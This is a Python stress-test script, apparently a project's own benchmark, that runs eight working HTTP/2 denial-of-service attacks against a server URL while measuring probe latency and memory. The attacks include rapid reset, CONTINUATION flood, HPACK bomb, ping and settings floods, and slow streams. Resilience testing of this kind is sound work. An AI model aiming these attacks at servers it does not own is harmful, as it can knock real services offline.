#!/usr/bin/env python3
"""Hostile HTTP/2 clients against stubd's HTTPS port (its own GnuTLS + nghttp2 engine): each attack
opens one TLS connection offering only `h2` by ALPN and misbehaves on it for up to --seconds, while
a probe in another process makes a fresh HTTPS request every 0.1 s (httpx, HTTP/2, 2 s timeout) and
records its latency. Frames the `h2` library can write come from it; the rest (CONTINUATION
floods, HPACK bombs, zero-length DATA) are written as raw frame bytes.

  rapid-reset         HEADERS then RST_STREAM(CANCEL), thousands of pairs, as fast as the socket
                      takes them (CVE-2023-44487)
  continuation-flood  one HEADERS without END_HEADERS, then CONTINUATION frames (one small header
                      field each) without end (CVE-2024-27316 class)
  hpack-bomb          one 4,000-byte header inserted into the HPACK dynamic table, then HEADERS
                      blocks referencing it (indexed field 62) ~16,000 times each: ~64 MB decoded
                      per block
  settings-flood      SETTINGS frames (not ACKs) back to back, replies left unread
  ping-flood          PING frames back to back, replies left unread (CVE-2019-9512)
  empty-frames        one open stream, then zero-length DATA frames without END_STREAM (CVE-2019-9518)
  zero-window         SETTINGS_INITIAL_WINDOW_SIZE=0, never a WINDOW_UPDATE, a GET of URL's path on
                      every stream allowed (pick a URL with a large body); the connection is held
                      open, its bytes read from TCP but never acted on
  slow-streams        as many streams as the server allows opened with HEADERS without END_STREAM,
                      their bodies never sent; the connection held open

Each attack ends when the server ends the connection (GOAWAY, EOF or RST) or after --seconds; the
probe goes on for one more second. The floods that leave replies unread do not read the socket
until they have nothing more to send or the socket will not take more; so when the server ends
the connection, the time recorded is when the attacker could see it.

usage: bench/h2hostile.py [--attack NAME] [--seconds S] [--ca PEM | --insecure] [--probe URL]
                          [--pid PID] [--json] URL

URL is an https URL of the server (its path is what the attacks request; e.g.
https://127.0.0.1:8443/api/v1/users/1); --probe defaults to it. Without --attack every attack runs,
one after the other, on fresh connections.

Output: a table, or with --json one JSON object per attack and line. These keys are stable (tests
read them):
  attack         the attack's name
  goaway_code    the error code of the server's GOAWAY by name ("ENHANCE_YOUR_CALM",
                 "PROTOCOL_ERROR", ...; "0xNN" when unknown), or null when none came
  ended_by       "GOAWAY", "EOF", "RST" or null: how the server ended the connection, if it did
  ended_after_s  seconds from the attack's start until the server ended it, or null (held open)
  probe_max_ms   the slowest probe in milliseconds (a failed probe counts as its time to fail)
  probe_failures probes that failed or did not get 2xx
  rss_before_kb, rss_max_kb, rss_after_kb   the server's VmRSS with --pid (null without)
Others are informative: frames_sent (frames the attacker queued before it saw the end; the
server need not have read them all), probes, probe_median_ms, note.

Against stubd, a held connection ends when the server's own deadlines end it: slow-streams' open
requests are cut after about 10 s (EOF), so give it --seconds above 10 to see that.

Exit status: 0 when every attack ran (whatever the server did), 2 when the server could not be
reached over h2.
"""
import argparse
import json
import multiprocessing
import os
import select
import socket
import ssl
import struct
import sys
import threading
import time
import urllib.parse

import h2.config
import h2.connection
import h2.errors
import h2.exceptions
import h2.settings

# Frame types and flags (RFC 9113 §6).
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    """One HTTP/2 frame's bytes."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream & 0x7FFFFFFF) + payload


def error_name(code):
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return f"0x{code:x}"


def hpack_int(value, prefix_bits, first):
    """An HPACK integer (RFC 7541 §5.1) with FIRST's high bits set on its first byte."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def hpack_literal(name, value, indexing):
    """A literal header field with a new name, raw strings: incremental indexing (0x40) or none (0x00)."""
    return bytes([0x40 if indexing else 0x00]) + hpack_int(len(name), 7, 0) + name + hpack_int(len(value), 7, 0) + value


def request_block(path, authority):
    """A GET's pseudo-header fields, HPACK-coded without touching the dynamic table."""
    # :method GET (2), :scheme https (7), then :path and :authority as literals with indexed names.
    return (b"\x82\x87" + b"\x04" + hpack_int(len(path), 7, 0) + path
            + b"\x01" + hpack_int(len(authority), 7, 0) + authority)


class Target:
    def __init__(self, url, ca, insecure):
        parts = urllib.parse.urlsplit(url)
        if parts.scheme != "https":
            raise SystemExit(f"{url}: an https URL is needed (the server's HTTPS port)")
        self.host, self.port = parts.hostname, parts.port or 443
        self.path = (parts.path or "/") + (("?" + parts.query) if parts.query else "")
        self.authority = parts.netloc
        self.context = ssl.create_default_context(cafile=ca) if ca else ssl.create_default_context()
        if insecure:
            self.context.check_hostname = False
            self.context.verify_mode = ssl.CERT_NONE
        self.context.set_alpn_protocols(["h2"])


class Connection:
    """One attacking connection: writes go through an output buffer; what comes back is parsed as
    frames only to see SETTINGS (for the stream limit) and GOAWAY, and whether the socket ended."""

    def __init__(self, target):
        raw = socket.create_connection((target.host, target.port), timeout=5)
        self.sock = target.context.wrap_socket(raw, server_hostname=target.host)
        if self.sock.selected_alpn_protocol() != "h2":
            raise SystemExit(f"{target.host}:{target.port} did not choose h2 by ALPN ({self.sock.selected_alpn_protocol()})")
        self.sock.setblocking(False)
        self.started = time.monotonic()
        self.out = bytearray()
        self.inbuf = bytearray()
        self.ended_by = self.goaway_code = self.ended_at = None
        self.closed = False
        self.max_streams = None
        self.frames_sent = 0

    @property
    def ended(self):
        """True once the server said GOAWAY or the socket ended."""
        return self.goaway_code is not None or self.closed

    def _end(self, how):
        if self.ended_at is None:
            self.ended_at = time.monotonic() - self.started
        if how == "GOAWAY":
            self.ended_by = how
        else:
            self.closed = True
            self.ended_by = self.ended_by or how

    def _parse(self):
        while len(self.inbuf) >= 9:
            length = int.from_bytes(self.inbuf[:3], "big")
            if len(self.inbuf) < 9 + length:
                return
            kind, flags = self.inbuf[3], self.inbuf[4]
            payload = bytes(self.inbuf[9:9 + length])
            del self.inbuf[:9 + length]
            if kind == GOAWAY and length >= 8 and self.goaway_code is None:
                self.goaway_code = error_name(struct.unpack(">I", payload[4:8])[0])
                self._end("GOAWAY")
            elif kind == SETTINGS and not flags & ACK:
                for i in range(0, len(payload) - 5, 6):
                    ident, value = struct.unpack(">HI", payload[i:i + 6])
                    if ident == 0x3:
                        self.max_streams = value

    def _read(self):
        """Reads all there is now."""
        while not self.closed:
            try:
                chunk = self.sock.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                return
            except (ConnectionResetError, BrokenPipeError):
                self._end("RST")
                return
            except (ssl.SSLError, OSError):
                self._end("EOF")
                return
            if not chunk:
                self._end("EOF")
                return
            self.inbuf += chunk
            self._parse()

    def _write(self):
        try:
            sent = self.sock.send(self.out[:65536])
            del self.out[:sent]
            return sent
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
            return 0
        except (ConnectionResetError, BrokenPipeError):
            self._end("RST")
        except (ssl.SSLError, OSError):
            self._end("EOF")
        self.closed = False
        self._read()  # what the server said before it went (a GOAWAY) may still be queued
        self.closed = True
        return 0

    def pump(self, timeout, read=True):
        """Waits up to TIMEOUT for the socket; writes what it takes and (with READ) reads what came.
        Without READ and with nothing left to send or the socket full, it reads anyway."""
        if self.closed:
            return
        rlist = [self.sock] if read or not self.out else []
        wlist = [self.sock] if self.out else []
        if self.sock.pending():
            self._read()
            return
        r, w, _ = select.select(rlist, wlist, [], timeout)
        if w:
            self._write()
        if r:
            self._read()
        if not read and self.out and not w and timeout > 0:
            self._read()  # the socket took nothing for TIMEOUT: see whether the server has gone

    def send(self, data, frames=1, read=True):
        """Queues DATA and writes until less than 256 KiB waits (or the connection ends)."""
        self.out += data
        self.frames_sent += frames
        while len(self.out) > 256 * 1024 and not self.closed:
            self.pump(0.05 if read else 0.5, read)

    def drain(self, deadline, read=True):
        """Writes what waits, then holds the connection, reading, until DEADLINE or its end."""
        while time.monotonic() < deadline and not self.closed:
            self.pump(min(0.05, max(0, deadline - time.monotonic())), read)

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def h2_client(settings=None):
    """An `h2` client connection whose preface and SETTINGS (with SETTINGS, a {SettingCodes: value})
    are ready to send."""
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
    if settings:
        conn.local_settings = h2.settings.Settings(client=True, initial_values=settings)
    conn.initiate_connection()
    return conn


def get_headers(target, path=None):
    return [(b":method", b"GET"), (b":scheme", b"https"), (b":authority", target.authority.encode()),
            (b":path", (path or target.path).encode())]


# ------------------------------------------------------------------------------------------ attacks

def rapid_reset(target, c, deadline):
    conn = h2_client()
    c.send(conn.data_to_send(), 2)
    stream = 1
    while time.monotonic() < deadline and not c.ended:
        for _ in range(100):
            conn.send_headers(stream, get_headers(target))
            conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
            stream += 2
        c.send(conn.data_to_send(), 200)
        c.pump(0)
        if stream > 0x7FFFFF00:
            break
    c.drain(deadline)


def continuation_flood(target, c, deadline):
    c.send(PREFACE + frame(SETTINGS, 0, 0), 1)
    c.send(frame(HEADERS, 0, 1, request_block(target.path.encode(), target.authority.encode())))
    field = hpack_literal(b"x-c", b"1", indexing=False)
    batch = frame(CONTINUATION, 0, 1, field) * 200
    while time.monotonic() < deadline and not c.ended:
        c.send(batch, 200)
        c.pump(0)
    c.drain(deadline)


def hpack_bomb(target, c, deadline):
    c.send(PREFACE + frame(SETTINGS, 0, 0), 1)
    head = request_block(target.path.encode(), target.authority.encode())
    # 32 + 6 + 4000 = 4038 bytes: fits the default 4,096-byte dynamic table as entry 62.
    insert = hpack_literal(b"x-bomb", b"b" * 4000, indexing=True)
    refs = b"\xbe" * (16384 - len(head) - len(insert))
    c.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, head + insert + refs))
    stream = 3
    refs = b"\xbe" * (16384 - len(head))
    while time.monotonic() < deadline and not c.ended and stream < 0x7FFFFF00:
        c.send(frame(HEADERS, END_HEADERS | END_STREAM, stream, head + refs))
        stream += 2
        c.pump(0.01)
    c.drain(deadline)


def settings_flood(target, c, deadline):
    conn = h2_client()
    c.send(conn.data_to_send(), 2, read=False)
    one = frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65535))  # INITIAL_WINDOW_SIZE, unchanged
    _flood(c, one, deadline)


def ping_flood(target, c, deadline):
    conn = h2_client()
    c.send(conn.data_to_send(), 2, read=False)
    _flood(c, frame(PING, 0, 0, b"hostile!"), deadline)


def _flood(c, one, deadline):
    batch = one * 500
    while time.monotonic() < deadline and not c.ended:
        c.send(batch, 500, read=False)
        c.pump(0, read=False)
    c.drain(deadline)


def empty_frames(target, c, deadline):
    conn = h2_client()
    conn.send_headers(1, [(b":method", b"POST"), *get_headers(target)[1:]])
    c.send(conn.data_to_send(), 3)
    batch = frame(DATA, 0, 1) * 1000
    while time.monotonic() < deadline and not c.ended:
        c.send(batch, 1000)
        c.pump(0)
    c.drain(deadline)


def zero_window(target, c, deadline):
    conn = h2_client({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    c.send(conn.data_to_send(), 2)
    _await_settings(c)
    for i in range(min(c.max_streams or 100, 1000)):
        conn.send_headers(1 + 2 * i, get_headers(target), end_stream=True)
    c.send(conn.data_to_send(), min(c.max_streams or 100, 1000))
    c.drain(deadline)


def slow_streams(target, c, deadline):
    conn = h2_client()
    c.send(conn.data_to_send(), 2)
    _await_settings(c)
    count = min(c.max_streams or 100, 1000)
    for i in range(count):
        conn.send_headers(1 + 2 * i, [(b":method", b"POST"), *get_headers(target)[1:], (b"content-length", b"100")])
    c.send(conn.data_to_send(), count)
    c.drain(deadline)


def _await_settings(c):
    until = time.monotonic() + 2
    while c.max_streams is None and not c.ended and time.monotonic() < until:
        c.pump(0.05)


ATTACKS = {
    "rapid-reset": rapid_reset,
    "continuation-flood": continuation_flood,
    "hpack-bomb": hpack_bomb,
    "settings-flood": settings_flood,
    "ping-flood": ping_flood,
    "empty-frames": empty_frames,
    "zero-window": zero_window,
    "slow-streams": slow_streams,
}


# ---------------------------------------------------------------------------------- probe and RSS

def probe_worker(url, ca, insecure, ready, stop, results):
    """Runs in its own process (so the attacker's loop does not skew its clock): a fresh HTTP/2
    connection every 0.1 s; sends back [(latency_ms, ok)]. One unrecorded request first, so that
    imports and the CA's loading are not timed; READY is set after it."""
    import httpx
    verify = False if insecure else (ssl.create_default_context(cafile=ca) if ca else True)
    try:
        with httpx.Client(http2=True, verify=verify, timeout=2.0) as client:
            client.get(url)
    except Exception:
        pass
    ready.set()
    out = []
    while not stop.is_set():
        began = time.monotonic()
        ok = False
        try:
            with httpx.Client(http2=True, verify=verify, timeout=2.0) as client:
                ok = 200 <= client.get(url).status_code < 300
        except Exception:
            pass
        spent = time.monotonic() - began
        out.append((spent * 1000, ok))
        stop.wait(max(0, 0.1 - spent))
    results.send(out)


def rss_kb(pid):
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return None


def run(name, target, args):
    ctx = multiprocessing.get_context("fork")
    stop, ready = ctx.Event(), ctx.Event()
    receive, send = ctx.Pipe(duplex=False)
    probe = ctx.Process(target=probe_worker, args=(args.probe or args.url, args.ca, args.insecure, ready, stop, send), daemon=True)
    rss = {"before": rss_kb(args.pid) if args.pid else None, "max": None}
    sampling = threading.Event()

    def sample():
        while not sampling.wait(0.05):
            now = rss_kb(args.pid)
            if now is not None:
                rss["max"] = max(rss["max"] or 0, now)

    sampler = threading.Thread(target=sample, daemon=True)
    if args.pid:
        sampler.start()
    probe.start()
    ready.wait(10)
    note = ""
    c = None
    try:
        c = Connection(target)
        ATTACKS[name](target, c, c.started + args.seconds)
    except (h2.exceptions.ProtocolError, ValueError) as e:
        note = f"attacker stopped: {e.__class__.__name__}: {e}"
    finally:
        if c is not None:
            c.close()
        time.sleep(1)
        stop.set()
    latencies = receive.recv()
    probe.join(5)
    sampling.set()
    if args.pid:
        sampler.join()
    after = rss_kb(args.pid) if args.pid else None
    times = sorted(ms for ms, _ in latencies)
    return {
        "attack": name,
        "goaway_code": c.goaway_code,
        "ended_by": c.ended_by,
        "ended_after_s": None if c.ended_at is None else round(c.ended_at, 3),
        "probe_max_ms": round(times[-1], 1) if times else None,
        "probe_failures": sum(1 for _, ok in latencies if not ok),
        "rss_before_kb": rss["before"],
        "rss_max_kb": rss["max"],
        "rss_after_kb": after,
        "frames_sent": c.frames_sent,
        "probes": len(latencies),
        "probe_median_ms": round(times[len(times) // 2], 1) if times else None,
        "note": note,
    }


def table(rows):
    def mb(kb):
        return "-" if kb is None else f"{kb / 1024:.0f}"
    head = f"{'attack':<19} {'frames':>8} {'ended':>7} {'by':<6} {'goaway':<18} {'probes':>6} {'p50 ms':>7} {'max ms':>7} {'fail':>4}  RSS MB before/max/after"
    print(head)
    print("-" * len(head))
    for r in rows:
        ended = "open" if r["ended_after_s"] is None else f"{r['ended_after_s']:.2f}s"
        print(f"{r['attack']:<19} {r['frames_sent']:>8} {ended:>7} {r['ended_by'] or '-':<6} {r['goaway_code'] or '-':<18} "
              f"{r['probes']:>6} {r['probe_median_ms'] or 0:>7.1f} {r['probe_max_ms'] or 0:>7.1f} {r['probe_failures']:>4}  "
              f"{mb(r['rss_before_kb'])}/{mb(r['rss_max_kb'])}/{mb(r['rss_after_kb'])}"
              + (f"  {r['note']}" if r["note"] else ""))


def main():
    parser = argparse.ArgumentParser(description="Hostile HTTP/2 clients against an h2 server over TLS.")
    parser.add_argument("url", help="https URL of the server; its path is requested by the attacks")
    parser.add_argument("--attack", choices=sorted(ATTACKS), help="run this attack only (default: all)")
    parser.add_argument("--seconds", type=float, default=10, help="longest time an attack runs (default 10)")
    parser.add_argument("--ca", help="CA certificate (PEM) to verify the server with")
    parser.add_argument("--insecure", action="store_true", help="do not verify the server's certificate")
    parser.add_argument("--probe", help="URL the probe requests (default: URL)")
    parser.add_argument("--pid", type=int, help="the server's process id, for its RSS")
    parser.add_argument("--json", action="store_true", help="one JSON object per attack and line")
    args = parser.parse_args()
    target = Target(args.url, args.ca, args.insecure)
    try:
        Connection(target).close()
    except (OSError, ssl.SSLError) as e:
        print(f"h2hostile: cannot reach {args.url} over h2: {e}", file=sys.stderr)
        sys.exit(2)
    rows = []
    for name in [args.attack] if args.attack else list(ATTACKS):
        row = run(name, target, args)
        rows.append(row)
        if args.json:
            print(json.dumps(row), flush=True)
    if not args.json:
        table(rows)


if __name__ == "__main__":
    main()
